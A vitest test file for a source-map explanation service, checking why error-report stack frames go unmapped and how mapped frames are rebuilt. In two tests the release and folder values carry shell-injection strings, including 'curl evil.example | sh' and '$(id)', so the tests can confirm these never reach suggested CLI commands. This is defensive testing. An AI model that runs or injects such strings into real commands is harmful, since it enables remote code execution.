import { afterEach, beforeEach, describe, expect, it, test } from 'vitest';
import { createExplain } from '../../../../../server/artifacts/symbolicate/explain.ts';
import {
  isJavaScript,
  remap,
  requestOf,
  stacksOf,
  withFrames,
} from '../../../../../server/artifacts/symbolicate/stacks.ts';
import { sourceMapDebugSchema } from '../../../../../server/protocol/contract-source.ts';
import type { StoredEvent, StoredFrame } from '../../../../../server/protocol/event.ts';
import { DEBUG_ID, type File, mapOf, OTHER_ID, openStore, PROJECT, URL } from './store.ts';

let uploads: Awaited<ReturnType<typeof openStore>>;
beforeEach(async () => {
  uploads = await openStore();
});
afterEach(() => uploads.close());

const RECEIVED = 2000;
const JS: File = { url: '~/assets/index.js', text: 't();' };
const MAP: File = { url: '~/assets/index.js.map', text: mapOf('found') };

const frame = (more: StoredFrame = {}): StoredFrame => ({
  filename: URL,
  abs_path: URL,
  lineno: 1,
  colno: 1,
  function: 't',
  in_app: true,
  ...more,
});

function event(frames: StoredFrame[], more: Partial<StoredEvent> = {}): StoredEvent {
  return {
    event_id: '0'.repeat(32),
    project: String(PROJECT),
    type: 'error',
    platform: 'javascript',
    level: 'error',
    timestamp: RECEIVED,
    received: RECEIVED,
    release: '1',
    tags: [],
    exception: { values: [{ type: 'Error', value: 'x', stacktrace: { frames } }] },
    title: '',
    culprit: '',
    location: null,
    metadata: {},
    hashes: [],
    grouping_config: { id: 'v1' },
    ...more,
  };
}
const withId = (debugId = DEBUG_ID): Partial<StoredEvent> => ({
  debug_meta: { images: [{ type: 'sourcemap', code_file: URL, debug_id: debugId }] },
});

/** What the checkout has, by file and line. */
const checkout = new Map<string, string>();
afterEach(() => checkout.clear());

const explain = async (stored: StoredEvent) =>
  sourceMapDebugSchema.parse(
    await createExplain({
      artifacts: uploads.store,
      symbolicate: uploads.symbolicate,
      lineOf: async (_, { filename, lineno }) => checkout.get(`${filename}:${lineno}`) ?? null,
    })(stored),
  );

type Case = {
  reason: string;
  why: string;
  given?: () => Promise<unknown>;
  frame?: StoredFrame;
  event?: Partial<StoredEvent>;
  detail: RegExp;
  nextStep: RegExp;
};
const upload = (of: Parameters<typeof uploads.upload>[0]) => uploads.upload(of);

const CASES: Case[] = [
  {
    reason: 'no_artifacts',
    why: 'nothing was ever uploaded',
    detail: /never uploaded|ever uploaded/,
    nextStep: /sentry-cli sourcemaps inject/,
  },
  {
    reason: 'no_debug_id',
    why: 'nothing leads from the file to an upload',
    given: () => upload({ files: [{ ...JS, debugId: DEBUG_ID, url: '~/other.js' }] }),
    detail: /has no debug id, and release 1 has no uploads/,
    nextStep: /inject/,
  },
  {
    reason: 'no_debug_id',
    why: 'neither debug id nor release',
    given: () => upload({ files: [{ ...JS, debugId: DEBUG_ID, url: '~/other.js' }] }),
    event: { release: null },
    detail: /names no release/,
    nextStep: /inject/,
  },
  {
    reason: 'no_debug_id',
    why: 'the build of before the injection was deployed',
    given: () =>
      upload({
        files: [
          { ...JS, debugId: DEBUG_ID },
          { ...MAP, debugId: DEBUG_ID },
        ],
      }),
    detail: /was uploaded without a release, to be found by its debug id; the file that ran has none/,
    nextStep: /deploy the files that it changed/,
  },
  {
    reason: 'debug_id_unknown',
    why: 'its build was not uploaded',
    given: () =>
      upload({
        release: '1',
        files: [
          { ...JS, debugId: OTHER_ID },
          { ...MAP, debugId: OTHER_ID },
        ],
      }),
    event: withId(),
    detail: new RegExp(`${DEBUG_ID}.*uploaded for release 1, from another build`),
    nextStep: /exactly the files/,
  },
  {
    reason: 'uploaded_after_event',
    why: 'it came too late',
    given: () => {
      uploads.clock.now = RECEIVED * 1000 + 1;
      return upload({ release: '1', files: [JS, MAP] });
    },
    detail: /after the event came/,
    nextStep: /Symbolicate the event again/,
  },
  {
    reason: 'symbolicator_failed',
    why: 'it was there, and too slow',
    given: () => upload({ release: '1', files: [JS, MAP] }),
    event: { errors: [{ type: 'symbolicator_failed', reason: 'It took a week.' }] },
    detail: /It took a week/,
    nextStep: /Symbolicate the event again/,
  },
  {
    reason: 'release_differs',
    why: 'another release has it',
    given: () => upload({ release: '1.0.1', dist: 'web', files: [JS, MAP] }),
    detail: /uploaded for release 1\.0\.1, dist web; the event says release 1\./,
    nextStep: /--release 1 /,
  },
  {
    reason: 'dist_differs',
    why: 'another dist has it',
    given: () => upload({ release: '1', dist: 'b', files: [JS, MAP] }),
    event: { dist: 'a' },
    detail: /with dist b; the event says a/,
    nextStep: /--release 1 --dist a /,
  },
  {
    reason: 'dist_differs',
    why: 'it was uploaded without',
    given: () => upload({ release: '1', files: [JS, MAP] }),
    event: { dist: 'a' },
    detail: /without a dist; the event says a/,
    nextStep: /--dist a/,
  },
  {
    reason: 'file_not_found',
    why: 'the release has others',
    given: () => upload({ release: '1', files: [{ ...JS, url: '~/static/index.js' }] }),
    detail: /none of them is https:\/\/shop\.example\/assets\/index\.js/,
    nextStep: /--url-prefix "~\/assets\/"/,
  },
  {
    reason: 'release_differs',
    why: 'the event names no release, and its upload has one',
    given: () => upload({ release: '1.0.1', files: [JS, MAP] }),
    event: { release: null },
    detail: /uploaded for release 1\.0\.1; the event says no release/,
    nextStep: /^Set the release of the upload in the options of the SDK/,
  },
  {
    reason: 'file_not_found',
    why: 'the release has it elsewhere',
    given: async () => {
      await upload({ release: '0', files: [JS, MAP] });
      await upload({ release: '1', files: [{ ...JS, url: '~/other_index.js' }] });
      await upload({ release: '1', files: [{ ...JS, url: '~/static/index.js' }] });
    },
    detail: /none of them is https:\/\/shop\.example\/assets\/index\.js\. It has ~\/static\/index\.js\.$/,
    nextStep: /--release 1 --url-prefix "~\/assets\/"/,
  },
  {
    reason: 'file_not_found',
    why: 'the upload of the release left it out',
    given: async () => {
      await upload({ release: '0', files: [JS, MAP] });
      await upload({ release: '1', files: [{ ...JS, url: '~/static/other.js' }] });
    },
    detail: /assets\/index\.js\. It was uploaded for release 0\.$/,
    nextStep: /--release 1 --url-prefix "~\/assets\/"/,
  },
  {
    reason: 'no_source_map',
    why: 'it names none',
    given: () => upload({ release: '1', files: [JS] }),
    detail: /names no map/,
    nextStep: /hidden/,
  },
  {
    reason: 'source_map_not_found',
    why: 'it names one that is not there',
    given: () => upload({ release: '1', files: [{ ...JS, text: '//# sourceMappingURL=gone.js.map' }] }),
    detail: /https:\/\/shop\.example\/assets\/gone\.js\.map, which was not uploaded/,
    nextStep: /both/,
  },
  {
    reason: 'source_map_unreadable',
    why: 'it is none',
    given: () => upload({ release: '1', files: [JS, { ...MAP, text: '<html>' }] }),
    detail: /not JSON/,
    nextStep: /anew/,
  },
  {
    reason: 'source_map_too_large',
    why: 'it is too large',
    given: () => upload({ release: '1', files: [JS, { ...MAP, text: ' '.repeat(51 * 1024 * 1024) }] }),
    detail: /51 MiB/,
    nextStep: /Split/,
  },
  {
    reason: 'no_position',
    why: 'it has no column',
    given: () => upload({ release: '1', files: [JS, MAP] }),
    frame: { colno: null },
    detail: /no column/,
    nextStep: /Nothing/,
  },
  {
    reason: 'no_mapping',
    why: 'the map says nothing',
    given: () => upload({ release: '1', files: [JS, MAP] }),
    frame: { lineno: 99 },
    detail: /nothing for this position/,
    nextStep: /exactly/,
  },
];

describe('why a frame is not mapped', () => {
  test.each(CASES)('$reason: $why', async ({ reason, given, frame: of, event: more, detail, nextStep }) => {
    await given?.();
    const { frames, canSymbolicateAgain } = await explain(event([frame(of)], more));
    expect(frames).toMatchObject([{ status: 'unmapped', exceptionIndex: 0, frameIndex: 0, url: URL, reason }]);
    expect(frames[0]?.detail).toMatch(detail);
    expect(frames[0]?.nextStep).toMatch(nextStep);
    expect(canSymbolicateAgain).toBe(['uploaded_after_event', 'symbolicator_failed'].includes(reason));
  });

  it("names the nearest that do have it, at most three, the event's own release first", async () => {
    for (const [release, dist] of [
      ['1', 'b'],
      ['2', null],
      ['3', null],
      ['4', null],
    ] as const) {
      uploads.clock.now += 1000;
      await upload({ release, dist, files: [JS, MAP] });
    }
    const { frames } = await explain(event([frame()], { dist: 'a' }));
    expect(frames[0]?.nearest).toEqual([
      { release: '1', dist: 'b', dateCreated: '1970-01-01T00:16:41.000Z' },
      { release: '4', dist: null, dateCreated: '1970-01-01T00:16:44.000Z' },
      { release: '3', dist: null, dateCreated: '1970-01-01T00:16:43.000Z' },
    ]);
  });

  it('is the symbolicator when that fails now', async () => {
    await upload({ release: '1', files: [JS, MAP] });
    const failing = createExplain({
      artifacts: uploads.store,
      lineOf: async () => null,
      symbolicate: () => Promise.reject(new Error('It died.')),
    });
    expect((await failing(event([frame()]))).frames[0]).toMatchObject({
      reason: 'symbolicator_failed',
      detail: expect.stringMatching(/It died/),
    });
  });

  test.each([
    ['my%20shop/%5Bid%5D/(till)/', '"~/my shop/[id]/(till)/"'],
    ['caf%C3%A9/', '"~/café/"'],
    ['$(id)/', '"~/<folder of that address>/"'],
    ['%60id%60/', '"~/<folder of that address>/"'],
    ['%22;id;%22/', '"~/<folder of that address>/"'],
    ['%0aid/', '"~/<folder of that address>/"'],
    ['', '"~/"'],
  ])('says to upload under the folder %s of an address', async (folder, prefix) => {
    await upload({ release: '1', files: [{ ...JS, url: '~/other.js' }] });
    const url = `https://shop.example/${folder}index.js`;
    const { frames } = await explain(event([frame({ abs_path: url, filename: url })]));
    expect(frames).toMatchObject([{ reason: 'file_not_found' }]);
    expect(frames[0]?.nextStep).toContain(`--url-prefix ${prefix} ./dist`);
  });

  it('puts no word of the event into a command that a shell could take otherwise', async () => {
    const release = '1"; curl evil.example | sh #`$(id)`\n';
    await upload({ release: '2', files: [JS, MAP] });
    const { frames } = await explain(event([frame()], { release, dist: '$(id)' }));
    expect(frames[0]).toMatchObject({ reason: 'release_differs' });
    expect(frames[0]?.nextStep).not.toMatch(/curl|\$\(|evil/);
    expect(frames[0]?.nextStep).toContain('--release "<release of the event>"');
  });
});

describe('what needs no reason', () => {
  it('a mapped frame, and one without its source says so', async () => {
    const mapped = (line: string | null) =>
      frame({ context_line: line, data: { sourcemap: `${URL}.map`, symbolicated: true } });
    const { frames, canSymbolicateAgain } = await explain(event([mapped('a();'), mapped(null)]));
    expect(frames).toMatchObject([
      { status: 'mapped' },
      { status: 'mapped', reason: 'source_not_included', mapUrl: `${URL}.map` },
    ]);
    expect(frames[0]?.reason).toBeUndefined();
    expect(canSymbolicateAgain).toBe(false);
  });

  it('a mapped frame whose source was uploaded since can be symbolicated again', async () => {
    await upload({ release: '1', files: [JS, MAP] });
    const stored = event([frame({ context_line: null, data: { sourcemap: `${URL}.map` } })]);
    const [exception] = stored.exception?.values ?? [];
    if (exception) exception.raw_stacktrace = { frames: [frame()] };
    expect((await explain(stored)).canSymbolicateAgain).toBe(true);
  });

  test.each([
    [
      'a frame of Node itself',
      { filename: 'node:internal/modules/run_main', abs_path: 'node:internal/modules/run_main' },
    ],
    ['a frame of the engine', { filename: '<anonymous>', abs_path: null }],
    ['native code', { filename: '[native code]', abs_path: null }],
    ['a frame that somebody mapped', { abs_path: 'webpack:///./src/a.ts' }],
    ['a frame of an extension', { abs_path: 'chrome-extension://abc/content.js' }],
    ['a frame without a file', { filename: null, abs_path: null }],
    ['a file that is readable as it is', { abs_path: '/srv/app/index.js', context_line: '  throw new Error();' }],
    ['a script in a page', { abs_path: 'https://shop.example/cart.html' }],
    ['a page by its path', { abs_path: 'https://shop.example/cart/' }],
  ])('%s', async (_, of) => {
    expect((await explain(event([frame(of)]))).frames).toMatchObject([{ status: 'not_needed' }]);
  });

  const WRITTEN = "  throw new Error('no total');";
  it('a file whose lines are shown from the checkout', async () => {
    checkout.set('/srv/app/till.js:1', WRITTEN);
    checkout.set('/srv/app/dist/till.js:1', WRITTEN.repeat(20));
    const of = (path: string, more: StoredFrame = {}) => frame({ filename: path, abs_path: path, ...more });
    const { frames } = await explain(
      event([
        of('/srv/app/till.js'),
        of('/srv/app/till.js', { lineno: 2 }),
        of('/srv/app/till.js', { in_app: false }),
        of('/srv/app/dist/till.js'),
        of('/srv/app/till.js', { context_line: 't();'.repeat(100) }),
      ]),
    );
    expect(frames.map(({ status, reason }) => reason ?? status)).toEqual([
      'not_needed',
      'no_artifacts',
      'no_artifacts',
      'no_artifacts',
      'no_artifacts',
    ]);
    expect(frames[0]?.detail).toMatch(/from the checkout/);
  });

  it('a mapped frame whose source is shown from the checkout', async () => {
    checkout.set('src/till.ts:1', WRITTEN);
    const mapped = (filename: string) =>
      frame({ filename, context_line: null, data: { sourcemap: `${URL}.map`, symbolicated: true } });
    const { frames } = await explain(event([mapped('src/till.ts'), mapped('src/other.ts')]));
    expect(frames.map(({ status, reason }) => reason ?? status)).toEqual(['mapped', 'source_not_included']);
  });

  it('not a file with a debug id: it was built, whatever the checkout has by its name', async () => {
    checkout.set(`${URL}:1`, WRITTEN);
    await upload({ files: [{ ...JS, debugId: OTHER_ID }] });
    expect((await explain(event([frame()], withId()))).frames).toMatchObject([{ reason: 'debug_id_unknown' }]);
  });

  it('a recursion of one line asks the checkout once, a stack of a thousand lines for some of them', async () => {
    let asked = 0;
    const ask = createExplain({
      artifacts: uploads.store,
      symbolicate: uploads.symbolicate,
      lineOf: async () => {
        asked += 1;
        return WRITTEN;
      },
    });
    await ask(event(Array.from({ length: 500 }, () => frame())));
    expect(asked).toBe(1);
    await ask(event(Array.from({ length: 1000 }, (_, index) => frame({ lineno: index + 1 }))));
    expect(asked).toBe(201);
  });

  it('a place between modules, in a file whose other frames are mapped', async () => {
    await upload({ release: '1', files: [JS, MAP] });
    const { frames } = await explain(event([frame({ lineno: 9 }), frame()]));
    expect(frames).toMatchObject([
      { status: 'not_needed', detail: expect.stringMatching(/bundler/) },
      { status: 'unmapped' },
    ]);
  });

  it('other platforms are left out', async () => {
    expect((await explain(event([frame()], { platform: 'python' }))).frames).toEqual([]);
    expect(isJavaScript({ platform: 'node' }, 'java')).toBe(true);
  });
});

describe('an event after it was mapped', () => {
  async function mapped(stored: StoredEvent) {
    await upload({ release: '1', files: [JS, MAP] });
    const stacks = stacksOf(stored);
    const { stacks: answers } = await uploads.symbolicate(
      requestOf(
        stored,
        stacks.map(({ shown, raw }) => raw ?? shown),
      ),
    );
    return withFrames(
      stored,
      stacks,
      stacks.map((stack, index) => remap(stack, answers[index] ?? [])),
    );
  }

  it('has the frames of its sources, and beside them those that came', async () => {
    const raw = frame({ vars: { a: 1 }, context_line: 't()', module: 'index', data: { own: true }, in_app: true });
    const { exception } = await mapped(event([raw]));
    const [{ stacktrace, raw_stacktrace } = {}] = exception?.values ?? [];
    expect(raw_stacktrace?.frames).toEqual([{ ...raw, vars: undefined }]);
    expect(stacktrace?.frames).toEqual([
      {
        abs_path: 'https://shop.example/src/found.ts',
        filename: '../src/found.ts',
        module: 'src/found',
        function: '?',
        lineno: 3,
        colno: 5,
        pre_context: ['// one', '// two'],
        context_line: "    throw new Error('found');",
        post_context: ['// four', ''],
        in_app: true,
        vars: { a: 1 },
        data: {
          own: true,
          symbolicated: true,
          sourcemap: 'https://shop.example/assets/index.js.map',
          resolved_with: 'release',
          orig_function: 't',
          orig_abs_path: URL,
          orig_filename: URL,
          orig_lineno: 1,
          orig_colno: 1,
          orig_in_app: true,
        },
      },
    ]);
  });

  it('has what `_meta` said with the frames that it was said of', async () => {
    const note = { '': { len: 9 } };
    const of = { function: note, vars: note, filename: note };
    const { _meta } = await mapped(
      event([frame({ vars: {} })], { _meta: { exception: { values: { 0: { stacktrace: { frames: { 0: of } } } } } } }),
    );
    expect(_meta).toEqual({
      exception: {
        values: {
          0: {
            stacktrace: { frames: { 0: { vars: note } } },
            raw_stacktrace: { frames: { 0: { function: note, filename: note } } },
          },
        },
      },
    });
  });

  it('is the same when it is mapped again, and stays so when its map is gone', async () => {
    const once = await mapped(event([frame(), frame({ lineno: 9 })]));
    expect(await mapped(once)).toEqual(once);
    const stacks = stacksOf(once);
    expect(
      remap(stacks[0] ?? never(), [{ status: 'unmapped', reason: 'file_not_found', detail: null, mapUrl: null }, null]),
    ).toBeNull();
  });

  it('has no frame of a package, a bundler or an ignore list as its own', async () => {
    const names = [
      '../node_modules/a/index.js',
      'webpack:///webpack/bootstrap',
      'webpack://shop/(webpack)/runtime.js',
      '../src/ignored.ts',
      '../src/own.ts',
    ];
    const map = mapOf('x', {
      sources: names,
      sourcesContent: [],
      ignoreList: [3],
      mappings: 'AAAA,CCAA,CCAA,CCAA,CCAA',
    });
    await upload({ release: '1', files: [JS, { ...MAP, text: map }] });
    const stored = event(names.map((_, index) => frame({ colno: index + 1 })));
    const stacks = stacksOf(stored);
    const { stacks: answers } = await uploads.symbolicate(
      requestOf(
        stored,
        stacks.map(({ shown }) => shown),
      ),
    );
    expect(remap(stacks[0] ?? never(), answers[0] ?? [])?.map(({ in_app }) => in_app)).toEqual([
      false,
      false,
      false,
      false,
      true,
    ]);
  });

  it('has threads and a stack trace of no exception mapped, too', async () => {
    const stacktrace = { frames: [frame()] };
    const done = await mapped(
      event([], { exception: null, threads: { values: [{ id: 1 }, { id: 2, stacktrace }] }, stacktrace }),
    );
    expect(done.threads?.values[1]).toMatchObject({
      stacktrace: { frames: [{ lineno: 3 }] },
      raw_stacktrace: stacktrace,
    });
    expect(done).toMatchObject({ stacktrace: { frames: [{ lineno: 3 }] }, raw_stacktrace: stacktrace });
    expect(done.threads?.values[0]).toEqual({ id: 1 });
  });

  it('keeps the frames that somebody else mapped, when there are more of them', async () => {
    const theirs = frame({ data: { sourcemap: 'theirs.map' } });
    const stored = event([theirs, theirs, theirs]);
    const [exception] = stored.exception?.values ?? [];
    if (exception) exception.raw_stacktrace = { frames: [frame(), frame({ lineno: 9 })] };
    expect((await mapped(stored)).exception).toEqual(stored.exception);
  });
});

function never(): never {
  throw new Error('There is no stack trace.');
}
